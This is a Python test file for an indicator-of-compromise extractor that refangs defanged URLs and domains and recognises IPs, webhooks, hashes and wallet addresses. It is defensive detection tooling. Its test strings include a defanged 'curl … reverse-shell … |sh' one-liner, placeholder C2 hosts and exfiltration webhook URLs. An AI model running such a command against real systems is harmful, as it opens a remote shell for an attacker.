import json
from pathlib import Path

import pytest

from malgraph.core.iocs import NETWORK_KINDS, Ioc, iocs_from_osv, iocs_in_text

SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
ETH = "0x52908400098527886E0F7030069857D2E4169EE7"  # the EIP-55 example address
BTC = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"  # the genesis block's address
MONERO = (
    "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3Xjrp"
    "DtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
)


def found(text: str) -> list[tuple[str, str]]:
    return [(ioc.kind, ioc.value) for ioc in iocs_in_text(text)]


@pytest.mark.parametrize(
    ("written", "value"),
    [
        ("hxxp://evil.com/a", "http://evil.com/a"),
        ("hxxps://evil.com/a", "https://evil.com/a"),
        ("HXXPS://evil.com/a", "https://evil.com/a"),
        ("h**p://evil.com/a", "http://evil.com/a"),
        ("h**ps://evil.com/a", "https://evil.com/a"),
        ("https://evil[.]com/a", "https://evil.com/a"),
        ("https://evil(.)com/a", "https://evil.com/a"),
        ("https://evil{.}com/a", "https://evil.com/a"),
        ("https://evil[dot]com/a", "https://evil.com/a"),
        ("https[:]//evil.com/a", "https://evil.com/a"),
        ("hxxps[://]evil[.]com/a", "https://evil.com/a"),
        ("http://user[@]evil.com/a", "http://user@evil.com/a"),
    ],
)
def test_defanged_urls_are_refanged(written: str, value: str) -> None:
    assert iocs_in_text(f"payload at {written}, then") == [Ioc("url", value, written)]


def test_defanged_domains_ips_and_mail_hosts() -> None:
    assert iocs_in_text("reads rpc[.]ankr[.]com/eth daily") == [
        Ioc("domain", "rpc.ankr.com", "rpc[.]ankr[.]com")
    ]
    assert found("evil(.)ru and bad{.}cn and worse[dot]su") == [
        ("domain", "evil.ru"),
        ("domain", "bad.cn"),
        ("domain", "worse.su"),
    ]
    assert iocs_in_text("C2 1[.]2[.]3[.]4:443") == [Ioc("ip", "1.2.3.4", "1[.]2[.]3[.]4")]
    assert found("mail to x[at]stealer[.]xyz or y[@]grab[.]top") == [
        ("domain", "stealer.xyz"),
        ("domain", "grab.top"),
    ]


def test_urls_are_normalised_and_cut_from_their_surroundings() -> None:
    assert found("See [the report](HTTPS://Evil.COM./Path?q=1).") == [
        ("url", "https://evil.com/Path?q=1")
    ]
    assert found("<https://a.example.org/x>; 'https://b.io/y', \"https://c.co/z\"") == [
        ("url", "https://a.example.org/x"),
        ("url", "https://b.io/y"),
        ("url", "https://c.co/z"),
    ]
    assert found("(see https://en.wikipedia.org/wiki/Foo_(bar))") == [
        ("url", "https://en.wikipedia.org/wiki/Foo_(bar)")
    ]
    assert found("[https://evil.com/a](https://evil.com/a)") == [("url", "https://evil.com/a")]
    assert found("**https://evil.com/b**, \u201chttps://evil.com/c\u201d") == [
        ("url", "https://evil.com/b"),
        ("url", "https://evil.com/c"),
    ]
    assert found("`curl hxxps://reverse-shell[.]sh/10[.]0[.]72[.]234:443|sh`") == [
        ("url", "https://reverse-shell.sh/10.0.72.234:443")
    ]
    assert found("http://localhost:3000 http://127.0.0.1/x http://evil.com:99999/") == []


def test_webhooks_are_not_plain_urls() -> None:
    text = """
    https://discord.com/api/webhooks/1/a https://discordapp.com/api/webhooks/2/b
    https://canary.discord.com/api/webhooks/3/c https://ptb.discordapp.com/api/v10/webhooks/4/d
    https://hooks.slack.com/services/T0/B0/x https://api.telegram.org/bot123:AAH/sendMessage
    https://cdn.discordapp.com/attachments/1/2/x.ps1 https://discord.com/invite/abc
    https://slack.com/services/x https://api.telegram.org/file/x
    """
    kinds = [kind for kind, _ in found(text)]
    assert kinds == ["webhook"] * 6 + ["url"] * 4
    assert iocs_in_text("posts to discord[.]com/api/webhooks/9/tok.") == [
        Ioc("webhook", "https://discord.com/api/webhooks/9/tok", "discord[.]com/api/webhooks/9/tok")
    ]


def test_a_urls_host_is_not_also_a_domain() -> None:
    text = "evil.com hosts https://evil.com/a and http://8.8.8.8/b; also evil[.]com"
    assert found(text) == [("url", "https://evil.com/a"), ("url", "http://8.8.8.8/b")]


def test_file_names_code_and_versions_are_not_domains() -> None:
    text = (
        "setup.py runs index.js from package.json, __init__.py, README.md, notes.txt, run.sh, "
        "dist/index.esm.js, drop.exe, MANIFEST.in; os.path sys.argv e.g. i.e. logger.info(x) "
        "self.name version 1.2.3, 1.0.0.dev, v2.3.4.app and lib.rs"
    )
    assert found(text) == []
    assert found("beacons to cdn-update.top, 163.com, x.org and evil[.]run") == [
        ("domain", "cdn-update.top"),
        ("domain", "163.com"),
        ("domain", "x.org"),
        ("domain", "evil.run"),  # .run is not on the allow-list: the defang vouches for it
    ]


def test_ips_are_validated() -> None:
    text = "8.8.8.8, 1.2.3.4.5, 256.1.1.1, 0.0.0.0, 127.0.0.1, ::1, 2001:db8::1 at 10:20:51"
    assert found(text) == [("ip", "8.8.8.8"), ("ip", "2001:db8::1")]
    assert found("MAC 00:1a:2b:3c:4d:5e, version v1.2.3.4") == []


def test_ids_inside_urls_are_not_hashes_but_wallets_are_wallets() -> None:
    text = f"https://webhook-test.com/{SHA256[:32]} https://etherscan.io/address/{ETH}"
    assert found(text) == [
        ("url", f"https://webhook-test.com/{SHA256[:32]}"),
        ("url", f"https://etherscan.io/address/{ETH}"),
        ("wallet", ETH),
    ]


def test_hashes_are_whole_hex_words() -> None:
    text = (
        f"md5 D41D8CD98F00B204E9800998ECF8427E sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709 "
        f"sha256 {SHA256} longer 0{SHA256} x{SHA256[:32]} {'1' * 32}"
    )
    assert found(text) == [
        ("md5", "d41d8cd98f00b204e9800998ecf8427e"),
        ("sha1", "da39a3ee5e6b4b0d3255bfef95601890afd80709"),
        ("sha256", SHA256),
    ]


def test_wallets() -> None:
    text = (
        f"send to {ETH} or {BTC} or 3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy or "
        "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq or TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t or "
        f"{MONERO}."
    )
    assert found(text) == [
        ("wallet", ETH),
        ("wallet", BTC),
        ("wallet", "3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy"),
        ("wallet", "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"),
        ("wallet", "TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t"),
        ("wallet", MONERO),
    ]


def test_transaction_hashes_and_bad_checksums_are_not_wallets() -> None:
    assert found(f"tx 0x{SHA256} and {ETH}ff") == []
    assert found(BTC[:-1] + "b") == []  # one character off: the checksum fails


def test_dedup_keeps_first_appearance_order() -> None:
    text = f"{SHA256} evil[.]com 9.9.9.9 evil.com {SHA256.upper()} 9.9.9.9 https://x.io/a"
    iocs = iocs_in_text(text)
    assert [(i.kind, i.value) for i in iocs] == [
        ("sha256", SHA256),
        ("domain", "evil.com"),
        ("ip", "9.9.9.9"),
        ("url", "https://x.io/a"),
    ]
    assert iocs[1].as_written == "evil[.]com"
    assert iocs_in_text(text) == iocs


def test_iocs_from_osv() -> None:
    field = {
        "urls": [
            "https://dl.dropbox.com/s/tpykidpdjz99202/esquele.exe",
            "https://discord.com/api/webhooks/1102575056925761587/abc",
            "evil[.]com/payload",
            "discordapp[.]com/api/webhooks/7/x",
        ],
        "domains": ["stealer.run", "cdn[.]evil[.]top", "stealer.run"],
        "ips": ["45.9.148.2", "5.6.7.8:443", 3],
        "hashes": [f"sha256:{SHA256}"],
        "wallets": [ETH],
        "note": "not a list",
        "other": [None, {"url": "https://ignored.com"}],
    }
    assert [(i.kind, i.value, i.as_written) for i in iocs_from_osv(field)] == [
        ("url", "https://dl.dropbox.com/s/tpykidpdjz99202/esquele.exe", field["urls"][0]),
        ("webhook", "https://discord.com/api/webhooks/1102575056925761587/abc", field["urls"][1]),
        ("url", "http://evil.com/payload", "evil[.]com/payload"),
        ("webhook", "https://discordapp.com/api/webhooks/7/x", field["urls"][3]),
        ("domain", "stealer.run", "stealer.run"),
        ("domain", "cdn.evil.top", "cdn[.]evil[.]top"),
        ("ip", "45.9.148.2", "45.9.148.2"),
        ("ip", "5.6.7.8", "5.6.7.8"),
        ("sha256", SHA256, SHA256),
        ("wallet", ETH, ETH),
    ]
    assert iocs_from_osv(None) == iocs_from_osv(["https://evil.com"]) == []


def test_real_report_text(shared_data: Path) -> None:
    path = shared_data / "leitwacht-malicious-packages/osv/2026/LWA-2026-10105.json"
    details = json.loads(path.read_text())["details"]
    domains = {ioc.value for ioc in iocs_in_text(details) if ioc.kind == "domain"}
    assert domains == {
        "rpc.ankr.com",
        "eth.drpc.org",
        "ethereum-rpc.publicnode.com",
        "eth-mainnet.public.blastapi.io",
        "eth.blockscout.com",
    }  # and not the bundle's dist/index.js or dist/index.esm.js


def test_a_control_character_ends_a_url() -> None:
    found = iocs_in_text("get https://evil.example/a\x1b]0;title\x07 and http://c2.example/\x9bx")
    assert [i.value for i in found] == ["https://evil.example/a", "http://c2.example/"]


def test_network_kinds_alone_leave_hashes_and_wallets_out() -> None:
    text = f"GET HXXPS[:]//Evil[.]com/{SHA256} pays {BTC}; dns evil.com, 10.1.2.3 [DoT] x"
    everything = iocs_in_text(text)
    network = iocs_in_text(text, NETWORK_KINDS)
    assert {ioc.kind for ioc in everything} == {"url", "ip", "wallet"}
    assert network == [ioc for ioc in everything if ioc.kind in NETWORK_KINDS]
    assert network[0] == Ioc("url", f"https://evil.com/{SHA256}", f"HXXPS[:]//Evil[.]com/{SHA256}")


@pytest.mark.parametrize("marker", ["[.]", "(.)", "{.}", "(DOT)", "{Dot}", "[dOT]"])
def test_a_defanged_dot_in_any_case_makes_any_name_a_domain(marker: str) -> None:
    assert found(f"host evil{marker}zz here") == [("domain", "evil.zz")]
